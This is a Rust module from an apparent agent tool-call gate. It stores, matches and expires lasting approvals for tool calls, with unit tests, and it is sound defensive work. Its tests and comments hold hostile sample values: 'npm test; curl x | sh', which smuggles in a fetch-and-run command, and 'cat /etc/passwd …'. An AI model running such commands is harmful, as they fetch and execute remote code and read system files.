//! Lasting approvals: "always", on the person's terms, kept in
//! `warden.approvals.toml` beside the policy ([`FILE`]).
//!
//! Each entry names one tool and what it covers: these exact arguments
//! (`match = "args"`), a rule (`match = "rule"`, `when` as in
//! `[[tools.NAME.rule]]`), or every call of an `ask` tool (`match = "tool"`);
//! for one session or one workspace, optionally until a date. An entry
//! - only ever answers the approval question: the call still runs inside its
//!   policy's walls, and a `deny` decision is never asked, so never covered;
//! - never covers a `confirm` call with `match = "tool"`;
//! - stops applying when the tool's definition changes ([`definition`]: its
//!   policy entry, description and input schema, as the lock pins a server's).
//!
//! The file is one of warden's own files (protected inside every write grant),
//! read again when it changes, and written whole through a new file renamed
//! into place. docs/approvals.md, "Lasting approvals".

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::{Mutex, PoisonError};
use std::time::SystemTime;

use regex::RegexBuilder;

use crate::policy::{Policy, Runner};
use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use super::Request;
use crate::policy::{ArgSelector, Tier, ToolSpec};

/// The file's name, beside the policy.
pub const FILE: &str = "warden.approvals.toml";
/// The largest file read.
const MAX_FILE_BYTES: u64 = 1 << 20;
/// The most entries kept.
pub const MAX_ENTRIES: usize = 1024;
/// The largest compiled `when` regex.
const MAX_REGEX: usize = 1 << 20;

/// What an entry covers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Match {
    /// The exact arguments (their sha256).
    Args,
    /// Arguments matching `when`.
    Rule,
    /// Every call (`ask` tools only).
    Tool,
}

/// For how long.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Scope {
    /// While this session lasts.
    Session,
    /// In this workspace.
    Workspace,
}

/// One lasting approval.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Entry {
    /// `l-` and 16 hex digits.
    pub id: String,
    /// The tool.
    pub tool: String,
    /// The tier of the call the person approved: it covers calls decided at
    /// that tier only (a rule that raises a call to `confirm` is asked anew).
    pub tier: Tier,
    /// What it covers.
    #[serde(rename = "match")]
    pub matches: Match,
    /// `match = "args"`: the arguments' sha256.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub args_sha256: Option<String>,
    /// `match = "rule"`: argument (name or JSON pointer) → regex; all must match.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub when: BTreeMap<String, String>,
    /// For how long.
    pub scope: Scope,
    /// `scope = "session"`: the session.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub session: Option<String>,
    /// `scope = "workspace"`: the workspace.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub workspace: Option<String>,
    /// The last day it applies (`YYYY-MM-DD`, UTC, inclusive), or a moment (RFC 3339).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub until: Option<String>,
    /// The tool's definition when it was given ([`definition`]).
    pub definition: String,
    /// Who gave it.
    pub who: String,
    /// Where.
    pub via: String,
    /// When (RFC 3339).
    pub created: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct FileDoc {
    #[serde(default)]
    approval: Vec<Entry>,
}

/// The moment `until` ends, if it parses.
pub fn until_time(until: &str) -> Option<SystemTime> {
    if let Ok(t) = humantime::parse_rfc3339_weak(until) {
        return Some(t);
    }
    // A day: through its last second.
    humantime::parse_rfc3339_weak(&format!("{until} 23:59:59")).ok()
}

/// The sha256 of what a person approved of `spec`: its policy entry (without
/// the places in the file, so editing another table keeps it), the code that
/// runs it (its plugin's source and sha256, or its server's entry),
/// description and input schema.
pub fn definition(policy: &Policy, spec: &ToolSpec, description: &str, schema: &serde_json::Value) -> String {
    let mut spec = spec.clone();
    spec.location.clear();
    for r in &mut spec.rules {
        r.location.clear();
    }
    let code = match &spec.runner {
        Runner::Plugin(p) => format!("{:?}", policy.plugins.get(p).map(|p| (&p.source, &p.sha256))),
        Runner::Command(c) => format!("{:?}", policy.plugins.get(&c.plugin).map(|p| (&p.source, &p.sha256))),
        Runner::Server(s) => {
            let mut server = policy.servers.get(&s.server).cloned();
            if let Some(server) = &mut server {
                server.location.clear();
            }
            format!("{server:?}")
        }
        Runner::Process(_) => String::new(),
    };
    let mut h = Sha256::new();
    h.update(format!("{spec:?}").as_bytes());
    h.update([0]);
    h.update(code.as_bytes());
    h.update([0]);
    h.update(description.as_bytes());
    h.update([0]);
    h.update(schema.to_string().as_bytes());
    format!("sha256:{}", hex::encode(h.finalize()))
}

impl Entry {
    /// Why it cannot apply at all (checked when written and by `warden audit`).
    pub fn problem(&self) -> Option<String> {
        match self.matches {
            Match::Args if self.args_sha256.is_none() => return Some("match = \"args\" without args_sha256".into()),
            Match::Rule if self.when.is_empty() => return Some("match = \"rule\" without `when`".into()),
            _ => {}
        }
        for (key, re) in &self.when {
            match anchored(re) {
                Err(e) => return Some(format!("when.{key}: the regex does not compile: {e}")),
                Ok(rx) if rx.is_match("") => {
                    return Some(format!(
                        "when.{key} = {re:?} matches an empty value: name what it covers (it is anchored at both ends)"
                    ));
                }
                Ok(_) => {}
            }
        }
        if self.matches == Match::Tool && self.tier == Tier::Confirm {
            return Some("match = \"tool\" on a confirm tool: confirm calls are approved per call".into());
        }
        if !matches!(self.tier, Tier::Ask | Tier::Confirm) {
            return Some(format!("tier = \"{}\": only ask and confirm calls are approved", self.tier));
        }
        match self.scope {
            Scope::Session if self.session.is_none() => return Some("scope = \"session\" without session".into()),
            Scope::Workspace if self.workspace.is_none() => {
                return Some("scope = \"workspace\" without workspace".into());
            }
            _ => {}
        }
        if let Some(u) = &self.until
            && until_time(u).is_none()
        {
            return Some(format!("until = {u:?} is neither a date (YYYY-MM-DD) nor an RFC 3339 time"));
        }
        None
    }

    /// Whether it has passed its `until`.
    pub fn expired(&self, now: SystemTime) -> bool {
        self.until.as_deref().and_then(until_time).is_some_and(|t| t < now)
    }

    /// Whether it covers `req`, a call of a tool whose definition is now `definition`.
    pub fn covers(&self, req: &Request<'_>, definition: &str, workspace: &Path, now: SystemTime) -> bool {
        if self.tool != req.tool
            || self.definition != definition
            || self.tier != req.tier
            || !matches!(req.tier, Tier::Ask | Tier::Confirm)
            || self.expired(now)
            || self.problem().is_some()
        {
            return false;
        }
        let scoped = match self.scope {
            Scope::Session => self.session.as_deref() == Some(req.session),
            Scope::Workspace => self.workspace.as_deref().map(Path::new) == Some(workspace),
        };
        scoped
            && match self.matches {
                Match::Args => self.args_sha256.as_deref() == Some(req.args_sha256),
                Match::Tool => req.tier == Tier::Ask,
                Match::Rule => self.when.iter().all(|(key, re)| {
                    let sel = if key.starts_with('/') {
                        ArgSelector::Pointer(key.clone())
                    } else {
                        ArgSelector::Name(key.clone())
                    };
                    let Ok(re) = anchored(re) else { return false };
                    sel.select(req.args).is_some_and(|v| re.is_match(v) && !has_shell_syntax(v))
                }),
            }
    }
}

/// A rule-scoped approval, like an `auto` rule, applies only to values without
/// shell syntax: `npm test` approved by `npm test` never covers `npm test; curl …`.
/// Stricter than an auto rule: no expansion (`$`), comment (`#`) or glob either.
fn has_shell_syntax(v: &str) -> bool {
    !crate::policy::is_simple_command(v) || v.contains(['$', '#', '*', '?', '[', '~'])
}

/// `re` anchored at both ends: a lasting rule names whole values, so
/// `npm test` never covers `cat secrets #npm test`.
fn anchored(re: &str) -> Result<regex::Regex, regex::Error> {
    RegexBuilder::new(&format!("^(?:{re})$")).size_limit(MAX_REGEX).build()
}

/// The file's stamp (modified, inode) when last read, and its entries.
type Cached = (Option<(SystemTime, u64)>, Vec<Entry>);

/// The lasting approvals of one policy: read from its file, again when the
/// file changes.
#[derive(Debug)]
pub struct Lasting {
    path: Option<PathBuf>,
    cached: Mutex<Cached>,
}

/// Reads the file: no file is no entries; anything else unreadable is an error.
pub fn read(path: &Path) -> Result<Vec<Entry>, String> {
    use std::io::Read as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    let file = match std::fs::OpenOptions::new().read(true).custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK).open(path)
    {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(format!("cannot read the lasting approvals {}: {e}", path.display())),
    };
    let mut text = String::new();
    file.take(MAX_FILE_BYTES + 1)
        .read_to_string(&mut text)
        .map_err(|e| format!("cannot read the lasting approvals {}: {e}", path.display()))?;
    if text.len() as u64 > MAX_FILE_BYTES {
        return Err(format!("{} is larger than {MAX_FILE_BYTES} bytes; revoke some approvals", path.display()));
    }
    let doc: FileDoc = toml::from_str(&text).map_err(|e| {
        format!("{} is not a lasting-approvals file: {e} (fix it, or remove it to revoke them all)", path.display())
    })?;
    Ok(doc.approval)
}

/// Writes `entries` whole: a new file beside it, renamed into place.
pub fn write(path: &Path, entries: &[Entry]) -> Result<(), String> {
    use std::io::Write as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    if entries.len() > MAX_ENTRIES {
        return Err(format!("{} holds {MAX_ENTRIES} approvals already; revoke some first", path.display()));
    }
    let doc = FileDoc { approval: entries.to_vec() };
    let body = toml::to_string(&doc).map_err(|e| e.to_string())?;
    let text = format!(
        "# Lasting approvals, written by `warden approvals always` and the console.\n\
         # `warden approvals list --lasting` shows them; `warden approvals revoke ID` removes one.\n\n{body}"
    );
    let mut suffix = [0u8; 8];
    getrandom::fill(&mut suffix).map_err(|e| format!("no randomness: {e}"))?;
    let tmp = path.with_file_name(format!(".{FILE}.{}.tmp", hex::encode(suffix)));
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .custom_flags(libc::O_NOFOLLOW)
        .open(&tmp)
        .map_err(|e| format!("cannot write {}: {e}", tmp.display()))?;
    let written = f.write_all(text.as_bytes()).and_then(|()| f.sync_data());
    let renamed = written.and_then(|()| std::fs::rename(&tmp, path));
    if let Err(e) = renamed {
        let _ = std::fs::remove_file(&tmp);
        return Err(format!("cannot write {}: {e}", path.display()));
    }
    Ok(())
}

/// Edits the file under a lock beside it (one writer at a time).
pub fn update<T>(path: &Path, edit: impl FnOnce(&mut Vec<Entry>) -> Result<T, String>) -> Result<T, String> {
    use std::os::unix::fs::OpenOptionsExt as _;
    let lock_path = path.with_file_name(format!(".{FILE}.lock"));
    let lock = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(false)
        .mode(0o600)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(&lock_path)
        .map_err(|e| format!("cannot lock {}: {e}", lock_path.display()))?;
    if !lock.metadata().is_ok_and(|m| m.is_file()) {
        return Err(format!("{} is not a regular file; remove it", lock_path.display()));
    }
    let _held = nix::fcntl::Flock::lock(lock, nix::fcntl::FlockArg::LockExclusive)
        .map_err(|(_, e)| format!("cannot lock {}: {e}", lock_path.display()))?;
    let mut entries = read(path)?;
    let out = edit(&mut entries)?;
    write(path, &entries)?;
    Ok(out)
}

/// Why `e` can no longer apply, if it cannot: `definition` is its tool's
/// definition now (`None`: the policy offers no such tool).
pub fn inert(e: &Entry, definition: Option<&str>, now: SystemTime) -> Option<String> {
    if let Some(p) = e.problem() {
        return Some(p);
    }
    if e.expired(now) {
        return Some(format!("expired (until {})", e.until.as_deref().unwrap_or("?")));
    }
    match definition {
        None => Some(format!("the policy offers no tool {}", e.tool)),
        Some(d) if d != e.definition => Some(
            "the tool's definition changed since it was approved (its policy entry, description or input schema)"
                .into(),
        ),
        Some(_) => None,
    }
}

/// A fresh entry id.
pub fn new_id() -> Result<String, String> {
    let mut raw = [0u8; 8];
    getrandom::fill(&mut raw).map_err(|e| format!("no randomness: {e}"))?;
    Ok(format!("l-{}", hex::encode(raw)))
}

impl Lasting {
    /// The lasting approvals kept at `path` (none without a policy file).
    pub fn new(path: Option<PathBuf>) -> Lasting {
        Lasting { path, cached: Mutex::default() }
    }

    /// The file, if the policy has one.
    pub fn path(&self) -> Option<&Path> {
        self.path.as_deref()
    }

    /// The entry that covers `req`, if any; an unreadable file covers nothing
    /// (and says why once per change).
    pub fn find(&self, req: &Request<'_>, definition: &str, workspace: &Path) -> Option<Entry> {
        let path = self.path.as_deref()?;
        use std::os::unix::fs::MetadataExt as _;
        let stamp =
            std::fs::symlink_metadata(path).ok().map(|m| (m.modified().unwrap_or(SystemTime::UNIX_EPOCH), m.ino()));
        let mut cached = self.cached.lock().unwrap_or_else(PoisonError::into_inner);
        if cached.0 != stamp || stamp.is_none() {
            let entries = read(path).unwrap_or_else(|e| {
                tracing::warn!("{e}; no lasting approval applies until it is fixed");
                Vec::new()
            });
            *cached = (stamp, entries);
        }
        let now = SystemTime::now();
        cached.1.iter().find(|e| e.covers(req, definition, workspace, now)).cloned()
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn entry(matches: Match) -> Entry {
        Entry {
            id: "l-1".into(),
            tool: "shell".into(),
            tier: Tier::Ask,
            matches,
            args_sha256: Some("h".into()),
            when: BTreeMap::from([("command".to_string(), "^npm test$".to_string())]),
            scope: Scope::Workspace,
            session: None,
            workspace: Some("/w".into()),
            until: None,
            definition: "d".into(),
            who: "me".into(),
            via: "test".into(),
            created: "2026-11-27T00:00:00Z".into(),
        }
    }

    fn req<'a>(tier: Tier, args: &'a serde_json::Value, sha: &'a str) -> Request<'a> {
        Request { tool: "shell", tier, args, args_sha256: sha, preview: String::new(), location: "p:1:1", session: "s" }
    }

    #[test]
    fn an_entry_covers_only_its_tool_scope_definition_and_arguments() {
        let now = SystemTime::now();
        let w = Path::new("/w");
        let npm = serde_json::json!({"command": "npm test"});
        let evil = serde_json::json!({"command": "npm test; curl x | sh"});
        let rule = entry(Match::Rule);
        assert!(rule.covers(&req(Tier::Ask, &npm, "x"), "d", w, now));
        assert!(!rule.covers(&req(Tier::Confirm, &npm, "x"), "d", w, now), "a rule raised it to confirm");
        let unanchored = serde_json::json!({"command": "cat /etc/passwd xnpm testy"});
        assert!(!rule.covers(&req(Tier::Ask, &unanchored, "x"), "d", w, now), "anchored at both ends");
        let expansion = serde_json::json!({"command": "npm test $HOME"});
        let mut loose = entry(Match::Rule);
        loose.when.insert("command".into(), "npm test.*".into());
        assert!(!loose.covers(&req(Tier::Ask, &expansion, "x"), "d", w, now), "no expansion");
        loose.when.insert("command".into(), ".*".into());
        assert!(loose.problem().unwrap().contains("matches an empty value"));
        assert!(!rule.covers(&req(Tier::Ask, &evil, "x"), "d", w, now), "shell syntax is never covered");
        assert!(!rule.covers(&req(Tier::Ask, &npm, "x"), "changed", w, now), "a changed definition");
        assert!(!rule.covers(&req(Tier::Ask, &npm, "x"), "d", Path::new("/other"), now), "another workspace");
        assert!(!rule.covers(&req(Tier::Deny, &npm, "x"), "d", w, now), "deny is never covered");
        let mut args = entry(Match::Args);
        args.tier = Tier::Confirm;
        assert!(args.covers(&req(Tier::Confirm, &npm, "h"), "d", w, now));
        assert!(!args.covers(&req(Tier::Confirm, &npm, "h2"), "d", w, now));
        let tool = entry(Match::Tool);
        assert!(tool.covers(&req(Tier::Ask, &evil, "x"), "d", w, now));
        assert!(!tool.covers(&req(Tier::Confirm, &npm, "x"), "d", w, now), "confirm needs args or a rule");
        let mut tool_confirm = entry(Match::Tool);
        tool_confirm.tier = Tier::Confirm;
        assert!(!tool_confirm.covers(&req(Tier::Confirm, &npm, "x"), "d", w, now), "never every confirm call");
        let mut old = entry(Match::Tool);
        old.until = Some("2020-01-01".into());
        assert!(!old.covers(&req(Tier::Ask, &npm, "x"), "d", w, now), "expired");
        old.until = Some("2999-01-01".into());
        assert!(old.covers(&req(Tier::Ask, &npm, "x"), "d", w, now));
        let mut session = entry(Match::Tool);
        session.scope = Scope::Session;
        session.session = Some("s".into());
        assert!(session.covers(&req(Tier::Ask, &npm, "x"), "d", w, now));
        session.session = Some("s2".into());
        assert!(!session.covers(&req(Tier::Ask, &npm, "x"), "d", w, now));
    }

    #[test]
    fn the_file_round_trips_and_is_read_again_when_it_changes() {
        let d = tempfile::tempdir().unwrap();
        let path = d.path().join(FILE);
        let lasting = Lasting::new(Some(path.clone()));
        let npm = serde_json::json!({"command": "npm test"});
        assert!(lasting.find(&req(Tier::Ask, &npm, "x"), "d", Path::new("/w")).is_none());
        update(&path, |e| {
            e.push(entry(Match::Rule));
            Ok(())
        })
        .unwrap();
        assert_eq!(read(&path).unwrap(), vec![entry(Match::Rule)]);
        assert_eq!(lasting.find(&req(Tier::Ask, &npm, "x"), "d", Path::new("/w")).map(|e| e.id), Some("l-1".into()));
        update(&path, |e| {
            e.clear();
            Ok(())
        })
        .unwrap();
        assert!(lasting.find(&req(Tier::Ask, &npm, "x"), "d", Path::new("/w")).is_none());
        std::fs::write(&path, "[[approval]]\nnope = 1\n").unwrap();
        assert!(read(&path).unwrap_err().contains("not a lasting-approvals file"));
    }
}
